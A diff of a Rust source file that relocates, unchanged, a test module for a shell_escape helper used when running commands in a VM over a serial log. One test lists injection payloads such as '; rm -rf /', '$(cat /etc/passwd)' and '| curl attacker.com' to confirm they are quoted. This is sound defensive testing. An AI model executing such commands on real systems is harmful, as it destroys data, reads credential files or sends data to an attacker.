@@ -211,61 +211,6 @@ fn shell_escape(s: &str) -> String {
 /// reading the output from serial.log.
 ///
 /// Uses a unique marker to delimit command output from other serial noise.
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    #[test]
-    fn shell_escape_empty_string() {
-        assert_eq!(shell_escape(""), "''");
-    }
-
-    #[test]
-    fn shell_escape_safe_strings_unchanged() {
-        assert_eq!(shell_escape("hello"), "hello");
-        assert_eq!(shell_escape("foo_bar"), "foo_bar");
-        assert_eq!(shell_escape("file.txt"), "file.txt");
-        assert_eq!(shell_escape("/usr/bin/ls"), "/usr/bin/ls");
-        assert_eq!(shell_escape("a-b"), "a-b");
-    }
-
-    #[test]
-    fn shell_escape_wraps_special_chars() {
-        assert_eq!(shell_escape("hello world"), "'hello world'");
-        assert_eq!(shell_escape("a;b"), "'a;b'");
-        assert_eq!(shell_escape("$(cmd)"), "'$(cmd)'");
-        assert_eq!(shell_escape("a|b"), "'a|b'");
-        assert_eq!(shell_escape("`cmd`"), "'`cmd`'");
-        assert_eq!(shell_escape("a&b"), "'a&b'");
-        assert_eq!(shell_escape("a>b"), "'a>b'");
-    }
-
-    #[test]
-    fn shell_escape_handles_single_quotes() {
-        assert_eq!(shell_escape("it's"), "'it'\\''s'");
-        assert_eq!(shell_escape("'"), "''\\'''");
-    }
-
-    #[test]
-    fn shell_escape_injection_attempts() {
-        // These should all be safely escaped
-        let dangerous = [
-            "; rm -rf /",
-            "$(cat /etc/passwd)",
-            "`cat /etc/passwd`",
-            "| curl attacker.com",
-            "&& echo pwned",
-            "'; DROP TABLE vms; --",
-        ];
-        for input in dangerous {
-            let escaped = shell_escape(input);
-            // All dangerous inputs contain special chars, so they must be single-quoted
-            assert!(escaped.starts_with('\''), "should be quoted: {input}");
-            assert!(escaped.ends_with('\''), "should be quoted: {input}");
-        }
-    }
-}
-
 fn exec_via_serial(vm_name: &str, command: &[String]) -> Result<()> {
     let serial_path = vm::serial_log_path(vm_name);
     if !serial_path.exists() {
@@ -328,3 +273,58 @@ fn exec_via_serial(vm_name: &str, command: &[String]) -> Result<()> {
         }
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn shell_escape_empty_string() {
+        assert_eq!(shell_escape(""), "''");
+    }
+
+    #[test]
+    fn shell_escape_safe_strings_unchanged() {
+        assert_eq!(shell_escape("hello"), "hello");
+        assert_eq!(shell_escape("foo_bar"), "foo_bar");
+        assert_eq!(shell_escape("file.txt"), "file.txt");
+        assert_eq!(shell_escape("/usr/bin/ls"), "/usr/bin/ls");
+        assert_eq!(shell_escape("a-b"), "a-b");
+    }
+
+    #[test]
+    fn shell_escape_wraps_special_chars() {
+        assert_eq!(shell_escape("hello world"), "'hello world'");
+        assert_eq!(shell_escape("a;b"), "'a;b'");
+        assert_eq!(shell_escape("$(cmd)"), "'$(cmd)'");
+        assert_eq!(shell_escape("a|b"), "'a|b'");
+        assert_eq!(shell_escape("`cmd`"), "'`cmd`'");
+        assert_eq!(shell_escape("a&b"), "'a&b'");
+        assert_eq!(shell_escape("a>b"), "'a>b'");
+    }
+
+    #[test]
+    fn shell_escape_handles_single_quotes() {
+        assert_eq!(shell_escape("it's"), "'it'\\''s'");
+        assert_eq!(shell_escape("'"), "''\\'''");
+    }
+
+    #[test]
+    fn shell_escape_injection_attempts() {
+        // These should all be safely escaped
+        let dangerous = [
+            "; rm -rf /",
+            "$(cat /etc/passwd)",
+            "`cat /etc/passwd`",
+            "| curl attacker.com",
+            "&& echo pwned",
+            "'; DROP TABLE vms; --",
+        ];
+        for input in dangerous {
+            let escaped = shell_escape(input);
+            // All dangerous inputs contain special chars, so they must be single-quoted
+            assert!(escaped.starts_with('\''), "should be quoted: {input}");
+            assert!(escaped.ends_with('\''), "should be quoted: {input}");
+        }
+    }
+}